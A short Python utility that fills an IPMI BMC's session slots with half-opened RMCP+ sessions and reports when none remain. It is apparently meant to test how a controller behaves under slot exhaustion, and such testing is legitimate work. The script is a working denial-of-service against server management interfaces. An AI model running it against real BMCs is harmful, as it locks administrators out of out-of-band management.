#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""ipmi_sessions.py ADDRESS PORT COUNT - take session slots of a BMC and leave them taken.

Sends COUNT RMCP+ Open Session Requests (IPMI 2.0 section 13.17) for cipher suite 3 and goes no
further, as a console does that dies in the middle of a login. Prints the status of the last
answer (table 13-15): 0 while there are slots left, 1 when there are none.
"""
import socket
import struct
import sys

address, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
bmc = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
bmc.settimeout(5)
bmc.connect((address, port))
status = None
for number in range(1, count + 1):
    body = struct.pack("<BBHI", number & 0xFF, 4, 0, number)
    for kind, algorithm in ((0, 1), (1, 1), (2, 1)):
        body += struct.pack("<BHBBBH", kind, 0, 8, algorithm, 0, 0)
    head = bytes([6, 0, 0xFF, 7, 6, 0x10]) + struct.pack("<IIH", 0, 0, len(body))
    bmc.send(head + body)
    status = bmc.recv(512)[17]
    if status:
        break
print(status)
